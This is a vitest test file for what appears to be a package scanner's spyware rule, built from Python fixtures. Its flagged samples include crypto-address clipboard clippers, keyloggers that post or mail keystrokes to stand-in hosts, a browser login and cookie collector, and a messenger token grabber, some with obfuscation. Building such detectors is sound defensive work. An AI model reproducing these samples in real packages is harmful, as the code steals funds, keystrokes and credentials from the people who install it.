import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a clipboard whose coin addresses an import replaces is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import re, pyperclip',
      "OWN = '1ExampleAddressThatNobodyOwns'",
      'def watch():',
      '    text = pyperclip.paste()',
      "    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', text):",
      '        pyperclip.copy(OWN)',
      'watch()',
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 6 },
  ]);
});

test('keys that are listened to in a module that sends are malware at import', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'from pynput import keyboard',
      'def on_press(key):',
      "    requests.post('https://collector.metrics.invalid/k', data={'k': str(key)})",
      'keyboard.Listener(on_press=on_press).start()',
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 5 },
  ]);
});

test('profiles of browsers in a module that has a webhook are malware', async () => {
  const file = wheel({
    'pkg/collect.py': python(
      'import os, requests',
      "ROOTS = ['Google/Chrome/User Data', 'Opera Software']",
      "FILES = ['Login Data', 'Cookies', 'Local State']",
      'def gather():',
      '    found = []',
      '    for root in ROOTS:',
      '        for name in FILES:',
      "            found.append(os.path.join(os.environ['LOCALAPPDATA'], root, name))",
      "    requests.post('http://203.0.113.7/up', json={'n': len(found)})",
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([
    { class: 'malware', score: 9, path: 'pkg/collect.py', line: 9 },
  ]);
});

test('a clipboard tool, a hot-key library and a reader of browser cookies are silent', async () => {
  const file = wheel({
    'pkg/clip.py': python(
      'import pyperclip',
      'def swap(text):',
      '    old = pyperclip.paste()',
      '    pyperclip.copy(text)',
      '    return old',
    ),
    'pkg/keys.py': python(
      'from pynput import keyboard',
      'def bind(action):',
      '    keyboard.Listener(on_press=action).start()',
    ),
    'pkg/cookies.py': python(
      'import os, sqlite3',
      "PLACES = ['Google/Chrome/User Data/Default/Cookies', 'Opera/Cookies', 'Local State', 'Login Data']",
      'def load(home):',
      '    return [sqlite3.connect(os.path.join(home, p)) for p in PLACES]',
    ),
  });

  expect(await inspect('spyware', file)).toEqual([]);
});

test('a listener behind aliases, a class and a thread is found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import threading',
      'from urllib.request import urlopen as touch',
      'import pynput.keyboard as board',
      'class Watch:',
      '    def key(self, k):',
      "        touch('https://collector.' + 'metrics.invalid/?' + str(k))",
      '    def run(self):',
      "        make = getattr(board, 'Lis' + 'tener')",
      '        make(on_press=self.key).start()',
      'threading.Thread(target=Watch().run, daemon=True).start()',
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
  ]);
});

test('a search for tokens in the stores of a messenger is malware where something is sent', async () => {
  const search = python(
    'import os, re, requests',
    'def tokens(place):',
    '    found = []',
    "    for name in os.listdir(place + '/Local Storage/leveldb'):",
    "        found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(name).read())",
    '    requests.post(HOOK, json=found)',
  );

  expect(await inspect('spyware', wheel({ 'pkg/__init__.py': search }))).toMatchObject([
    { class: 'malware', score: 10, line: 5 },
  ]);
});

test('a filter that hides tokens in logs is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import re, requests',
      "PATTERN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')",
      'def redact(text): return PATTERN.sub("***", text)',
      "def ask(): return requests.get('https://api.vendor.invalid/').json()",
    ),
  });

  expect(await inspect('spyware', file)).toEqual([]);
});

test('a clipper is one however its patterns are spelled, and wherever they are kept', async () => {
  const file = wheel({
    'pkg/_tables.py': python("VALUE = '^0x[a-fA-F0-9]{40}$'", "OURS = '0x' + '0' * 40"),
    'pkg/__init__.py': python(
      'import re, threading, pyperclip',
      'from . import _tables as t',
      'known = re.compile(t.VALUE)',
      'def watch():',
      '    while True:',
      '        if known.match(pyperclip.paste()):',
      '            pyperclip.copy(t.OURS)',
      'threading.Thread(target=watch, daemon=True).start()',
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([{ class: 'malware', score: 10, line: 7 }]);
});

test('a clipboard tool that tells addresses of mail apart stays silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import re, pyperclip',
      "MAIL = re.compile(r'^[\\w.]+@[\\w.]+$')",
      'def tidy():',
      '    text = pyperclip.paste()',
      '    if MAIL.match(text):',
      '        pyperclip.copy(text.lower())',
    ),
  });

  expect(await inspect('spyware', file)).toEqual([]);
});

test('a clipper is one in whatever way the clipboard is asked, and wherever the address is put into it', async () => {
  const spelled = wheel({
    'pkg/__init__.py': python(
      'import pyperclip, re',
      'def watch():',
      "    if re.match('^0x[a-fA-F0-9]{40}$', getattr(pyperclip, 'pa' + 'ste')()):",
      "        getattr(pyperclip, 'co' + 'py')('0x' + '0' * 40)",
      'watch()',
    ),
  });
  const spread = wheel({
    'pkg/__init__.py': python('from . import look, put', 'if look.seen():', "    put.back('0x' + '0' * 40)"),
    'pkg/look.py': python('import pyperclip', 'def seen():', '    return len(pyperclip.paste()) == 42'),
    'pkg/put.py': python('import pyperclip', 'def back(text):', '    pyperclip.copy(text)'),
  });

  expect(await inspect('spyware', spelled)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await inspect('spyware', spread)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
});

test('a history of the clipboard that puts back what was copied is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import pyperclip',
      'seen = []',
      'def watch():',
      '    seen.append(pyperclip.paste())',
      'def back(n):',
      '    pyperclip.copy(seen[n])',
    ),
  });

  expect(await inspect('spyware', file)).toEqual([]);
});

test.each([
  ['an account whose password is in the code', "s.login('a@mail-of.invalid', 'some word')", 'malware', 10],
  ['the account of the user', "s.login(os.environ['MAIL_USER'], os.environ['MAIL_PASSWORD'])", 'suspicious', 7],
])('keys that are listened to where mail is sent from %s', async (_whose, login, kind, score) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, smtplib',
      'from pynput import keyboard',
      'typed = []',
      'def report():',
      "    s = smtplib.SMTP('smtp.mail-of.invalid', 587)",
      `    ${login}`,
      "    s.sendmail('a@mail-of.invalid', 'a@mail-of.invalid', ''.join(typed))",
      'def start():',
      '    with keyboard.Listener(on_press=lambda k: typed.append(str(k))) as listener:',
      '        listener.join()',
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([{ class: kind, score, context: 'call' }]);
});

test('an address of its own that a function puts into the clipboard is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import re, pyperclip',
      'def watch():',
      '    while True:',
      "        if re.match(r'^0x[a-fA-F0-9]{40}$', pyperclip.paste()):",
      "            pyperclip.copy('0x' + 'ab' * 20)",
    ),
  });

  expect(await inspect('spyware', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
});

test('a clipboard that is read and written by programs of the system is one all the same', async () => {
  const watcher = (own: string, pattern: string): string =>
    python(
      'import re, subprocess, threading',
      'def read():',
      "    return subprocess.check_output(['powershell', '-c', 'Get-Clipboard']).decode().strip()",
      'def watch():',
      '    while True:',
      '        text = read()',
      `        if re.match(${pattern}, text): subprocess.call('echo|set /p=%s|clip' % ${own}, shell=True)`,
      'threading.Thread(target=watch).start()',
    );

  expect(
    await inspect(
      'spyware',
      wheel({ 'pkg/__init__.py': watcher("'0xExampleThatNobodyOwns'", "'^0x[a-fA-F0-9]{40}$'") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 7 }]);
  expect(await inspect('spyware', wheel({ 'pkg/__init__.py': watcher('text.strip()', "'^ +'") }))).toEqual([]);
});

test('a picture that is pasted into another reads no clipboard', async () => {
  const module = (reading: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import pyperclip',
        "KNOWN = 'bc1'",
        'def show(picture, text):',
        `    ${reading}`,
        '    pyperclip.copy(text)',
      ),
    });

  expect(await inspect('spyware', module('picture.paste(text, mask=None)'))).toEqual([]);
  expect(await inspect('spyware', module('text = pyperclip.paste()'))).toMatchObject([{ class: 'malware' }]);
});

test('keys that are asked for one by one by code that nobody started, in a module that sends, are a key logger', async () => {
  const logger = (last: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import ctypes, smtplib, threading',
        'def watch():',
        "    typed = ''",
        '    while True:',
        '        for key in range(8, 256):',
        '            if ctypes.windll.user32.GetAsyncKeyState(key) & 1: typed += chr(key)',
        '        if len(typed) > 500:',
        "            server = smtplib.SMTP('mail.metrics.invalid')",
        "            server.sendmail('a@mail.invalid', 'b@mail.invalid', typed)",
        last,
      ),
    });

  expect(await inspect('spyware', logger('threading.Thread(target=watch, daemon=True).start()'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 6 },
  ]);
  // hot keys of a program that somebody starts
  expect(await inspect('spyware', logger(''))).toEqual([]);
});
